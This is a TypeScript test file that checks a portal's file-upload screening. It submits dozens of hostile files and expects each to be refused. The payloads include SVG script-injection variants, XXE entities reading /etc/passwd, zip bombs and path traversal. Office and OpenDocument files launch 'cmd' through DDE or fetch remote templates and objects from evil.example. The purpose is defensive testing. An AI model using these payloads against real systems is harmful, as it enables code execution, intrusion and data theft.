import { randomBytes } from 'node:crypto';
import { rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { docx, oleDocument, pngBytes, zip } from '../../../test/files/samples.ts';
import type { TestClient } from '../../../test/support/client.ts';
import { upload } from '../../../test/support/multipart.ts';
import { testPortal } from '../../../test/support/portal.ts';
import { inspectFile } from './inspect/inspect-file.ts';

const portal = testPortal();
let admin: TestClient;
let before: unknown;
const count = () => portal.db`select count(*)::int as n from files`;
beforeAll(async () => {
  admin = await portal.as('admin');
  before = await count();
});
// Not one of them is kept.
afterAll(async () => expect(await count()).toEqual(before));

const open = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">';
const inside = (inner: string) => `${open}${inner}</svg>`;
const handlers = [
  'onload',
  'onclick',
  'onerror',
  'onbegin',
  'onend',
  'onfocus',
  'onmouseover',
  'onrepeat',
  'onactivate',
  'onscroll',
  'onwheel',
  'ONLOAD',
];
const elements = [
  'script',
  'SCRIPT',
  'foreignObject',
  'iframe',
  'embed',
  'object',
  'animate',
  'set',
  'handler',
  'style',
  'image',
  'audio',
  'video',
  'a',
  'animateTransform',
  'animateMotion',
];
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/a.svg#b',
  '//evil.example/a',
  'x.svg#a',
  'vbscript:x',
  '&#106;avascript:alert(1)',
  '&#x6a;avascript:alert(1)',
];
const utf16 = (text: string, mark: number[]) =>
  Buffer.concat([Buffer.from(mark), Buffer.from(text, 'utf16le')]);
const script = inside('<script>alert(1)</script>');

const texts: [string, string][] = [
  ...elements.map((name): [string, string] => [`<${name}>`, inside(`<${name}>x</${name}>`)]),
  ...elements
    .slice(0, 8)
    .map((name): [string, string] => [
      `<s:${name}>`,
      inside(`<s:${name} xmlns:s="http://www.w3.org/2000/svg"/>`),
    ]),
  ...handlers.map((name): [string, string] => [name, inside(`<path d="M0 0" ${name}="alert(1)"/>`)]),
  ...handlers
    .slice(0, 6)
    .map((name): [string, string] => [`${name} after a line`, inside(`<path\n${name} =\n'alert(1)'/>`)]),
  ...handlers
    .slice(0, 4)
    .map((name): [string, string] => [`${name} after a slash`, inside(`<path/${name}="alert(1)"/>`)]),
  ...addresses.map((to): [string, string] => [`href ${to}`, inside(`<use href="${to}"/>`)]),
  ...addresses.map((to): [string, string] => [`xlink:href ${to}`, inside(`<use xlink:href='${to}'/>`)]),
  ['url() to another site', inside('<rect fill="url(https://evil.example/#a)"/>')],
  ['url() in quotes', inside(`<rect fill="url('//evil.example')"/>`)],
  ['a style attribute that imports', inside('<rect style="@import url(//evil.example)"/>')],
  ['a stylesheet instruction', `<?xml-stylesheet href="//evil.example/a.css"?>${open}</svg>`],
  ['an entity', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inside('&x;')}`],
  ['a document type', `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "//evil.example/x.dtd">${open}</svg>`],
  ['a billion laughs', `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${inside('&b;')}`],
  ['a CDATA section with script', inside('<![CDATA[</svg><script>alert(1)</script>]]>')],
  ['a page before it', `<html>${open}</svg></html>`],
  ['a page in a comment', `<!--><script>alert(1)</script>-->${open}</svg>`],
  ['another root', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
  ['UTF-7', '+ADw-svg+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-/svg+AD4-'],
];
const drawings: [string, Buffer][] = texts.map(([name, text]) => [name, Buffer.from(text)]);
drawings.push(
  ['UTF-16', utf16(script, [0xff, 0xfe])],
  ['UTF-16 without a mark', utf16(script, [])],
  ['a zero byte in a tag', Buffer.from(inside('<scr\0ipt>alert(1)</script>'))],
  [
    'bytes that are no text',
    Buffer.concat([Buffer.from(open), Buffer.from([0xff, 0xfe, 0x80]), Buffer.from('</svg>')]),
  ],
  ['packed with gzip', gzipSync(script)],
  // Neither comes to its end within the time that a test has where a pattern can match in several ways.
  ['comments that a pattern may join in a thousand million ways', Buffer.from('<!---->'.repeat(30))],
  [
    'an address after blanks that a pattern may share out',
    Buffer.from(`<use href=${' '.repeat(150_000)}#a/>`),
  ],
  ['more than 200 kB', Buffer.from(inside(`<path d="${'M0 0'.repeat(60_000)}"/>`))],
);

describe(`none of ${drawings.length} hostile drawings is kept`, () => {
  test('the corpus is large enough', () => expect(drawings.length).toBeGreaterThanOrEqual(80));
  test.each(drawings)('%s', async (_, bytes) => {
    expect(await upload(admin, 'icon.svg', bytes)).toBeProblem('file_type_not_allowed');
  });
});

/** The 55 bytes that once hung a library in an endless loop: a header object that says it is empty. */
const asf = Buffer.concat([Buffer.from('3026b2758e66cf11a6d900aa0062ce6c', 'hex'), Buffer.alloc(39)]);
const endings = ['pdf', 'docx', 'odt', 'doc', 'xls', 'xlsx', 'ods', 'jpg', 'png', 'webp', 'mp4', 'svg'];

test('the header that hung a library, and 200 variations of it, are refused under every name', async () => {
  for (let i = 0; i < 200; i += 1) {
    const bytes = Buffer.from(asf);
    if (i > 0) bytes.writeUInt32LE((i * 2_654_435_761) % 2 ** 32, 16 + (i % 35));
    const name = `a.${endings[i % endings.length]}`;
    const reply = await upload(admin, name, bytes);
    expect(reply).toBeProblem(name.endsWith('.svg') ? 'file_type_not_allowed' : 'file_not_as_named');
  }
});

const many = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `word/${i}.xml`, content: '<w/>' }));
const office = [
  { name: '[Content_Types].xml', content: '<Types/>' },
  { name: 'word/document.xml', content: '<w/>' },
];

describe('a container that would burst or hides something is refused', () => {
  test.each([
    [
      'a page of ten megabytes from ten kilobytes',
      zip([...office, { name: 'word/big.xml', content: 'x'.repeat(10_000_000) }]),
      'file_type_not_allowed',
    ],
    ['2,001 entries', zip([...office, ...many(2000)]), 'file_type_not_allowed'],
    [
      'a page before the container',
      Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), docx()]),
      'file_not_as_named',
    ],
    ['a picture before the container', Buffer.concat([pngBytes, docx()]), 'file_not_as_named'],
    ['a program before the container', Buffer.concat([Buffer.from('MZ\x90\0'), docx()]), 'file_not_as_named'],
    [
      'a path out of the container',
      zip([...office, { name: '../../etc/cron.d/x', content: 'x' }]),
      'file_incomplete',
    ],
    ['an absolute path', zip([...office, { name: '/etc/passwd', content: 'x' }]), 'file_incomplete'],
    [
      'macros by another name',
      zip([...office, { name: 'word/VBAPROJECT.BIN', content: 'x' }]),
      'file_has_programs',
    ],
    ['no directory', docx().subarray(0, 60), 'file_incomplete'],
    [
      'a directory that lies about its place',
      Buffer.concat([docx().subarray(0, -6), Buffer.from('ffffff7f0000', 'hex')]),
      'file_incomplete',
    ],
  ] as const)('%s', async (_, bytes, code) => {
    expect(await upload(admin, 'letter.docx', bytes)).toBeProblem(code);
  });
});

test('an object of another program is refused, and how to go without it is said', async () => {
  const object = { name: 'word/embeddings/oleObject1.bin', content: 'x' };
  const reply = await upload(admin, 'letter.docx', zip([...office, object]));
  expect(reply).toBeProblem('file_has_programs');
  expect(reply.problem?.message).toMatch(/object of another program.+as \.docx or \.xlsx/);
});

const settingsOfPrinter = { name: 'word/printerSettings/printerSettings1.bin', content: 'x' };
const related = (part: string) => zip([...office, { name: 'word/_rels/settings.xml.rels', content: part }]);
const typeOf = (name: string) =>
  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}`;
const relation = (type: string, target: string, more = 'TargetMode="External"') =>
  related(
    `<?xml version="1.0"?>\n<Relationships><Relationship Id="rId1" Type="${typeOf(type)}" Target="${target}" ${more}/></Relationships>`,
  );

const begin = '<w:fldChar w:fldCharType="begin"/>';
const ofField = (code: string) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`;
const inWord = (content: string | Buffer, name = 'word/header1.xml') => zip([...office, { name, content }]);
/** Its first byte is followed by blocks that hold nothing, so that it is unpacked before anything else is. */
const byTheLetter = (content: Buffer) => {
  const begun = Buffer.concat([Buffer.from('000100feff', 'hex'), content.subarray(0, 1)]);
  const nothing = Buffer.alloc(5 * 30_000, Buffer.from('000000ffff', 'hex'));
  const packed = Buffer.concat([begun, nothing, deflateRawSync(content.subarray(1))]);
  return zip([...office, { name: 'word/header1.xml', content, packed }]);
};

describe('a document that makes an office program fetch or start something is refused, and no other', () => {
  test.each([
    [
      'a field that starts a program',
      inWord(`<w:r>${begin}</w:r>${ofField(' DD')}${ofField('EAUTO cmd "/c"')}`),
    ],
    ['a field in one tag', inWord(`<w:fldSimple w:dirty="1" w:instr=' dde cmd "/c"'/>`, 'word/header')],
    ['a field that another one makes', inWord(`${begin}${begin}${ofField('QUOTE 68 68 69')}`)],
    ['a field in letters of numbers', inWord(`${begin}${ofField('DD&#69;AUTO cmd')}`)],
    ['a field behind a comment', inWord(`${begin}${ofField('DD<!-- -->EAUTO cmd')}`)],
    ['a field in other letters', inWord(Buffer.from('\ufeff<w:p/>', 'utf16le'))],
    ['a field in other letters, unpacked by the letter', byTheLetter(Buffer.from('\ufeff<w:p/>', 'utf16le'))],
    ['a packed program, unpacked by the letter', byTheLetter(oleDocument('\u0001Ole10Native'))],
    ['a field of more than a megabyte', inWord(ofField(randomBytes(900_000).toString('base64')))],
    ['a text of another format', relation('aFChunk', 'chunk.rtf', '')],
    ['a packed program as a picture', inWord(oleDocument('\u0001Ole10Native'), 'word/media/image1.png')],
    [
      'a document inside that is too long to be looked at',
      inWord(Buffer.concat([oleDocument(), randomBytes(17_000_000).map((byte) => byte & 3)])),
    ],
    [
      'a workbook with macros',
      inWord(zip([{ name: 'xl/vbaProject.bin', content: 'x' }]), 'word/embeddings/a.xlsx'),
    ],
    [
      'a workbook whose macros have another name',
      inWord(zip([{ name: 'xl/VBAPROJECT.BIN', content: 'x' }]), 'word/embeddings/a.xlsx'),
    ],
    ['a document type', inWord('<!DOCTYPE w [<!ENTITY x SYSTEM "//evil.example/x">]><w>&x;</w>')],
    ['a document type behind a comment', inWord('<?w <w>?><!-- <w> --><!DOCTYPE w><w/>')],
    ['a document type behind much else', inWord(`<!--${'- '.repeat(40_000)}--><!DOCTYPE w><w/>`)],
    ['a template', relation('attachedTemplate', 'https://evil.example/a.dotm')],
    ['a template of a share', relation('attachedTemplate', 'file:///\\\\evil.example\\a.dotm')],
    ['a template of a server', relation('attachedTemplate', '//evil.example/a.dotm')],
    ['an object', relation('oleObject', 'mhtml:https://evil.example/a!x-usc:https://evil.example/a')],
    ['a page in a frame', relation('frame', ' http://evil.example/')],
    [
      'behind marks that mislead',
      related(
        `<R Id=">" x=" Target='" Type='${typeOf('oleObject')}' Target='http://evil.example' TargetMode = 'External' y="'"/>`,
      ),
    ],
    ['in letters of numbers', relation('attached&#84;emplate', 'https://evil.example/a.dotm')],
    ['behind a comment', related(`<!-- > --><R/>`)],
    ['in other letters', related(Buffer.from('\ufeff<R/>', 'utf16le').toString('latin1'))],
    ['in more than a megabyte', related(`<R x="${randomBytes(3_200_000).toString('base64')}"/>`)],
  ])('%s', async (_, bytes) => {
    expect(await upload(admin, 'letter.docx', bytes)).toBeProblem('file_has_programs');
  });

  test.each([
    [
      'fields of its own',
      inWord(
        `<w:t>DDEAUTO</w:t>${begin}${ofField('TOC \\o "1-3"')}<w:fldChar w:fldCharType="separate"/>${begin}`,
      ),
    ],
    [
      'a workbook inside',
      inWord(zip([{ name: 'xl/workbook.xml', content: '<x/>' }]), 'word/embeddings/a.xlsx'),
    ],
    ['a link', relation('hyperlink', 'https://example.org/?a=1&amp;b=2&#233;')],
    ["how the author's printer is set up", zip([...office, settingsOfPrinter])],
    ["its author's template", relation('attachedTemplate', "file:///C:\\Users\\O'Brien\\Letter.dotx")],
    ['a template of this machine', relation('attachedTemplate', '/Users/ama/Letter.dotx')],
    ['an object inside', relation('oleObject', 'embeddings/oleObject1.xlsx', '')],
  ])('not %s', async (name, bytes) => {
    const path = join(tmpdir(), `portal-${process.pid}-${name.length}.docx`);
    await writeFile(path, bytes);
    onTestFinished(() => rm(path));
    expect(await inspectFile({ path, size: bytes.length }, 'letter.docx')).toMatchObject({
      kind: 'document',
    });
  });
});

const inOdt = (content: string, name = 'content.xml') =>
  zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', stored: true },
    { name, content: `<?xml version="1.0" encoding="UTF-8"?>\n<o:document>${content}</o:document>` },
    { name: 'META-INF/manifest.xml', content: '<manifest/>' },
  ]);
const far = 'https://evil.example/a.odt';

describe('an OpenDocument file that fetches or starts something is refused, and no other', () => {
  test.each([
    ['an object', inOdt(`<draw:object xlink:href="${far}"/>`)],
    ['an object in an object', inOdt(`<draw:object xlink:href="${far}"/>`, 'Object 1/content.xml')],
    [
      'by another prefix, behind marks that mislead',
      inOdt(`<é:object a=">" x:href = '${far}' b="'"></é:object>`),
    ],
    ['in letters of numbers', inOdt('<draw:object xlink:href="&#104;ttps://evil.example/a"/>')],
    ['a section of a share', inOdt('<text:section-source xlink:href="file:////evil.example/a.odt"/>')],
    ['a page in a frame', inOdt(`<draw:floating-frame xlink:href="${far}"/>`)],
    ['a template', inOdt(`<meta:template xlink:href="${far}"/>`, 'meta.xml')],
    [
      'a macro of the program',
      inOdt('<script:event-listener xlink:href="vnd.sun.star.script:a?location=share"/>'),
    ],
    ['by DDE', inOdt('<text:dde-connection-decl office:dde-application="cmd"/>')],
    ['by an entity', inOdt('<!DOCTYPE a [<!ENTITY b "">]>')],
    [
      'behind two megabytes',
      inOdt(`<p>${randomBytes(1_500_000).toString('base64')}</p><draw:object xlink:href="${far}"/>`),
    ],
    ['in a tag of more than a megabyte', inOdt(`<p a="${randomBytes(1_500_000).toString('base64')}"/>`)],
    ['in other letters', inOdt(Buffer.from('<a/>', 'utf16le').toString('latin1'))],
  ])('%s', async (_, bytes) => {
    expect(await upload(admin, 'letter.odt', bytes)).toBeProblem('file_has_programs');
  });

  test('not links, pictures, drawings of its own and files of the author', async () => {
    const bytes = inOdt(
      `<text:a xlink:href="${far}">x</text:a><draw:image xlink:href="${far}"/><draw:object xlink:href="./Object 1"/>` +
        '<table:table-source xlink:href="file:///C:/Users/Ama/rates.ods"/><meta:template xlink:href="/Users/ama/a.ott"/>',
    );
    const path = join(tmpdir(), `portal-${process.pid}.odt`);
    await writeFile(path, bytes);
    onTestFinished(() => rm(path));
    expect(await inspectFile({ path, size: bytes.length }, 'letter.odt')).toMatchObject({ kind: 'document' });
  });
});

test('a workbook with a document type in other letters is refused', async () => {
  const content = Buffer.from(
    '\ufeff<!DOCTYPE sst [<!ENTITY x SYSTEM "//evil.example/x">]><sst/>',
    'utf16le',
  );
  const bytes = zip([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    { name: 'xl/sharedStrings.xml', content },
  ]);
  expect(await upload(admin, 'rates.xlsx', bytes)).toBeProblem('file_has_programs');
});

test('a workbook that starts a program by DDE is refused, whatever the part is named', async () => {
  const book = (link: string, name = 'externalLinks/externalLink1.xml', folder = 'xl') =>
    zip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'xl/workbook.xml', content: '<workbook/>' },
      {
        name: `${folder}/_rels/workbook.xml.rels`,
        content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="${name}"/></Relationships>`,
      },
      { name: `${folder}/${name}`, content: `<x:externalLink>${link}</x:externalLink>` },
    ]);
  const dde = '<x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>';
  for (const bytes of [book(dde), book(dde, 'charts/chart1.xml'), book(dde, undefined, 'other')])
    expect(await upload(admin, 'rates.xlsx', bytes)).toBeProblem('file_has_programs');
  const path = join(tmpdir(), `portal-${process.pid}.xlsx`);
  const bytes = book('<x:externalBook r:id="rId1"/>');
  await writeFile(path, bytes);
  onTestFinished(() => rm(path));
  expect(await inspectFile({ path, size: bytes.length }, 'rates.xlsx')).toMatchObject({
    kind: 'spreadsheet',
  });
});
